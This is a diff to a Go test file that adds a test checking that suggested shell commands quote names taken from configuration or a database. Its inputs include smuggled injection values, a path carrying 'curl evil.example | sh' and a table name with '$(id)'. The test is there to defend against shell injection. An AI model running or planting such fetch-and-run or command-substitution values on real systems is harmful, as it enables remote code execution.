@@ -11,6 +11,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"revlet/internal/jobs"
+	"revlet/internal/platform/reason"
 	"revlet/internal/watch/report"
 	"revlet/internal/work/verify"
 )
@@ -114,4 +115,15 @@ func TestMomentsHaveAZone(t *testing.T) {
 	assert.Equal(t, "2026-10-24 14:00", c.Cell(summer))
 	assert.Equal(t, "taken (CET, CEST)", c.Heading("taken"))
 	assert.Equal(t, "2026-10-24 14:00 CEST", When(summer))
+}
+
+// What is advised is copied into a shell, by somebody who is tired: a name that a store or a
+// database has made up runs nothing there.
+func TestAdviceCanBeCopied(t *testing.T) {
+	next := Next(reason.New(reason.PlaceUnconfirmed, reason.Names{"site": "kestrelpoint", "path": "/srv/x; curl evil.example | sh {site}"}, "no"))
+	assert.Equal(t, []string{"if it belongs there, say so with --root '/srv/x; curl evil.example | sh {site}'; if not, correct `root:` of kestrelpoint in the configuration"}, next)
+	next = Next(reason.New(reason.ParentsRequired, reason.Names{"table": "a$(id)", "column": "b", "value": "it's"}, "no"))
+	assert.Equal(t, []string{`add --rows 'a$(id)':b='it'\''s'`}, next)
+	next = Next(reason.New(reason.ServerSetup, reason.Names{"sql": "GRANT ALL ON `a`.* TO 'b'@'c';"}, "no"))
+	assert.Contains(t, next[0], "GRANT ALL ON `a`.* TO 'b'@'c';")
 }
